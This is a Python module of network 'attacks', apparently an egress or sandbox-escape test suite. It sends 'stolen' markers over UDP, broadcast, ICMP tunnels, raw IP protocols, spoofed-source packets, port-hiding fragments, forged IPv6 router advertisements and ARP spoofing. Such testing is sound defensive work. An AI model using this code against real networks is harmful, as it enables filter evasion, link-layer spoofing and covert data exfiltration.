"""Attacks by what is not TCP to a web port: datagrams, raw packets, link and network layer."""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable
from contextlib import suppress

from . import wire

_ICMP_ECHO = bytes.fromhex("0800f7ff00000000")
_UDPLITE = 136
_IP_OPTIONS = socket.IP_OPTIONS
_ETH_P_IP, _ETH_P_ARP, _ETH_P_IPV6 = 0x0800, 0x0806, 0x86DD


def tcp(address: str, port: int, text: str = "stolen\n") -> bool:
    """Any TCP port. An answer means that somebody heard."""
    return bool(wire.talk(address, port, text.encode()))


def scan(address: str, ports: list[int]) -> bool:
    """Does any of these ports accept a connection?"""
    heard = False
    for port in ports:
        with suppress(OSError):
            wire.connect(address, port).close()
            heard = True
    return heard


def udp(address: str, port: int, size: int = 6) -> bool:
    """A datagram; a large one leaves as IP fragments."""
    return bool(wire.datagram(address, port, (b"stolen" * (size // 6 + 1))[:size]))


def broadcast(address: str, port: int = 9999) -> None:
    """A datagram to many."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        client.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 8)
        client.sendto(b"stolen", (address, port))


def ping(address: str) -> bool:
    """ICMP echo with a payload: what ICMP tunnels are made of."""
    with suppress(PermissionError):  # without the sysctl, raw sockets do the same
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as client:
            return _echo(client, address)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as client:
        return _echo(client, address)


def _echo(client: socket.socket, address: str) -> bool:
    client.settimeout(wire.PATIENCE)
    message = _ICMP_ECHO + b"stolen" * 10
    checksum = _sum(message[:2] + b"\0\0" + message[4:])
    client.sendto(message[:2] + checksum + message[4:], (address, 0))
    return bool(client.recv(2000))


def options(address: str, port: int, option: str) -> bool:
    """A datagram with IP options, given in hex: record route, source routes, timestamps."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.setsockopt(socket.IPPROTO_IP, _IP_OPTIONS, bytes.fromhex(option))
        client.settimeout(wire.PATIENCE)
        client.sendto(b"stolen", (address, port))
        return bool(client.recv(2000))


def raw_protocol(address: str, protocol: int) -> None:
    """A packet of another IP protocol: 41 carries IPv6, 47 is GRE, 4 is IP in IP, 132 SCTP."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as client:
        client.sendto(b"\x60" + bytes(59), (address, 0))


def udplite(address: str) -> None:
    """A datagram by UDP-Lite, which needs no raw socket."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, _UDPLITE) as client:
        client.sendto(b"stolen", (address, 9999))


def sctp(address: str) -> None:
    """The first packet of an SCTP association, by the kernel's own implementation if there is."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_SCTP) as client:
        client.settimeout(wire.PATIENCE)
        client.connect((address, 9999))


def spoofed(source: str, address: str) -> None:
    """A datagram and a SYN with another source address, by every way there is to send them."""
    datagram = struct.pack("!HHHH", 4000, 9999, 14, 0) + b"stolen"
    syn = struct.pack("!HHIIBBHHH", 4000, 9999, 1, 0, 0x50, 2, 1024, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(address) + struct.pack("!HH", 6, len(syn))
    syn = syn[:16] + _sum(pseudo + syn) + syn[18:]  # or connection tracking calls it invalid
    packets = [
        _ip(source, address, protocol, payload) for protocol, payload in ((17, datagram), (6, syn))
    ]
    _every_way(packets, address)


def fragments(address: str) -> None:
    """A datagram in fragments so small that the ports are not in the first one."""
    payload = struct.pack("!HHHH", 4000, 9999, 8 + 24, 0) + b"stolen" * 4
    own = _own_address(address)
    pieces = [
        _ip(own, address, 17, payload[at : at + 8], fragment=(at // 8) | (0x2000 if at < 24 else 0))
        for at in range(0, len(payload), 8)
    ]
    _every_way(pieces, address)


def tcp6(address: str, port: int) -> bool:
    """TCP over IPv6."""
    with socket.create_connection((address, port), wire.PATIENCE):
        return True


def udp6(address: str, port: int) -> None:
    """A datagram over IPv6."""
    scope = socket.if_nametoindex(wire.interface()) if address.startswith("ff02:") else 0
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as client:
        client.sendto(b"stolen", (address, port, 0, scope))


def frames6(address: str) -> None:
    """IPv6 as bare frames: a datagram, a router advertisement, a neighbour advertisement."""
    source = socket.inet_pton(socket.AF_INET6, "fe80::66")

    def packet(destination: str, following: int, payload: bytes) -> bytes:
        head = struct.pack("!IHBB", 6 << 28, len(payload), following, 255)
        return head + source + socket.inet_pton(socket.AF_INET6, destination) + payload

    datagram = struct.pack("!HHHH", 4000, 9999, 14, 0x1234) + b"stolen"
    advertisement = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    _frames(
        [
            packet(address, 17, datagram),
            packet("ff02::1", 58, advertisement),
            packet("ff02::1", 58, struct.pack("!BBHI", 136, 0, 0, 0x20000000) + source),
        ],
        _ETH_P_IPV6,
    )


def arp(claimed: str, asked: str) -> None:
    """ARP: claims to be somebody else, to whoever listens on the link."""
    here = bytes.fromhex("025366666666")
    addresses = socket.inet_aton(claimed), socket.inet_aton(asked)
    for operation in (1, 2):
        head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
        _frames([head + here + addresses[0] + b"\xff" * 6 + addresses[1]], _ETH_P_ARP)


def _every_way(packets: list[bytes], address: str) -> None:
    """As raw IP and as frames; refused where neither can even be opened."""
    ways: list[Callable[[], None]] = [
        lambda: _raw(packets, address),
        lambda: _frames(packets, _ETH_P_IP),
    ]
    refusals = []
    for way in ways:
        try:
            way()
        except OSError as refusal:
            refusals.append(refusal)
    if len(refusals) == len(ways):
        raise refusals[0]


def _raw(packets: list[bytes], address: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as client:
        for packet in packets:
            client.sendto(packet, (address, 0))


def _frames(packets: list[bytes], ethertype: int) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ethertype)) as link:
        for packet in packets:
            link.sendto(packet, (wire.interface(), ethertype, 0, 0, _gateway_hardware()))


def _gateway_hardware() -> bytes:
    with open("/proc/net/arp") as table:
        rows = [line.split() for line in table][1:]
    return bytes.fromhex(rows[0][3].replace(":", "")) if rows else b"\xff" * 6


def _own_address(towards: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.connect((towards, 9))
        address: str = client.getsockname()[0]
        return address


def _ip(source: str, destination: str, protocol: int, payload: bytes, fragment: int = 0) -> bytes:
    head = struct.pack("!BBHHHBB", 0x45, 0, 20 + len(payload), 4711, fragment, 64, protocol)
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    return head + _sum(head + b"\0\0" + addresses) + addresses + payload


def _sum(data: bytes) -> bytes:
    data += b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)
